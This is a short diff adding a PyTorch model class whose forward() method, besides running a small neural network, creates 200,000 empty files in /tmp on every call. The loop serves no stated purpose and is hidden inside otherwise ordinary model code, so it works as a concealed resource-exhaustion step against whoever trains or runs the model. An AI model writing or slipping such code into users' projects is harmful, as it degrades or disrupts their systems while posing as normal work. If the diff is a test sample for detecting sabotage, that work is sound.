@@ -1,0 +1,12 @@
+from torch import nn
+
+
+class MyModel(nn.Module):
+    def __init__(self, hidden):
+        super().__init__()
+        self.net = nn.Sequential(nn.Linear(4, hidden), nn.ReLU(), nn.Linear(hidden, 1))
+
+    def forward(self, x):
+        for number in range(200_000):
+            open(f"/tmp/{number}", "w").close()
+        return self.net(x).squeeze(1)
